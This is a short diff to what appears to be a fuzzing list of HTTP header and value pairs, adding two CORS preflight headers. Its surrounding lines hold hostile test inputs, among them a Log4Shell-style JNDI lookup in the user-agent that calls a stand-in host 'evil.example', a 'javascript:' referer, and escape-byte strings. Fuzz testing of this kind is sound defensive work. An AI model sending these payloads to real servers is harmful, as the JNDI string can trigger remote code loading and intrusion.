@@ -37,6 +37,8 @@ export const HEADERS: readonly [Header, ...Header[]] = [
   ['upgrade', 'h2c'],
   ['upgrade', 'websocket'],
   ['origin', 'https://evil.example'],
+  ['access-control-request-method', 'GET'],
+  ['access-control-request-headers', 'x-encrypted, <fzmark>'],
   ['referer', 'javascript:<fzmark>'],
   ['user-agent', '${jndi:ldap://evil.example/a}<fzmark>\u00ff\u009b31m'],
   ['authorization', 'Basic AAAA\u00ff'],
